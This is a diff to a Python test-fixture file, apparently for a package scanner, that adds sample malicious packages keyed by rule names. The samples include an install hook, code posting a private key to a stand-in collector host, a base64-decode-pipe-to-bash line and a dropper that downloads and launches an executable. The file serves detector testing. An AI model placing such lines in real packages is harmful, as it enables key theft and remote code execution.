@@ -73,6 +73,27 @@ FIXTURES: dict[str, tuple[dict[str, str | bytes], str, str, str]] = {
         "demo-widget",
         "1.0.0",
     ),
+    "PY-INSTALL-HOOK-EXEC": (
+        {
+            "demo-1.0/setup.py": SETUP_HEAD + "import os\n"
+            "from setuptools.command.install import install\n"
+            "class Hook(install):\n    def run(self):\n        os.system('echo hi')\n"
+            "setup(name='demo', cmdclass={'install': Hook})\n"
+        },
+        "pypi",
+        "demo-widget",
+        "1.0.0",
+    ),
+    "PY-KEY-EXFIL": (
+        {
+            "demo-1.0/demo/wallet.py": "import requests\n\ndef sign(private_key):\n"
+            "    data = [private_key]\n"
+            "    requests.post('https://collector.example.invalid/k', data)\n"
+        },
+        "pypi",
+        "demo-widget",
+        "1.0.0",
+    ),
     "PY-INSTALL-PROCESS": (
         {"demo-1.0/setup.py": SETUP_HEAD + "import subprocess\nsubprocess.call(['echo', 'hi'])\n"},
         "pypi",
@@ -220,6 +241,31 @@ FIXTURES: dict[str, tuple[dict[str, str | bytes], str, str, str]] = {
     ),
     "CNT-DOWNLOAD-EXEC": (
         {"demo-1.0/demo/tool.sh": "curl -s https://example.invalid/i.sh | " + "sh\n"},
+        "pypi",
+        "demo-widget",
+        "1.0.0",
+    ),
+    "CNT-DECODE-EXEC": (
+        {"demo-1.0/demo/tool.sh": "echo ZWNobyBoaQ== | base64 -d | " + "bash\n"},
+        "pypi",
+        "demo-widget",
+        "1.0.0",
+    ),
+    "CNT-DROPPER": (
+        {
+            "demo-1.0/demo/tool.py": "import os, urllib.request\n\ndef f():\n"
+            "    urllib.request.urlretrieve('https://example.invalid/t.exe', 't.exe')\n"
+            "    os.startfile('t.exe')\n"
+        },
+        "pypi",
+        "demo-widget",
+        "1.0.0",
+    ),
+    "CNT-PACKED-CODE": (
+        {
+            "demo-1.0/demo/__init__.py": "from .pytransform import pyarmor_runtime\n"
+            "pyarmor_runtime()\n"
+        },
         "pypi",
         "demo-widget",
         "1.0.0",
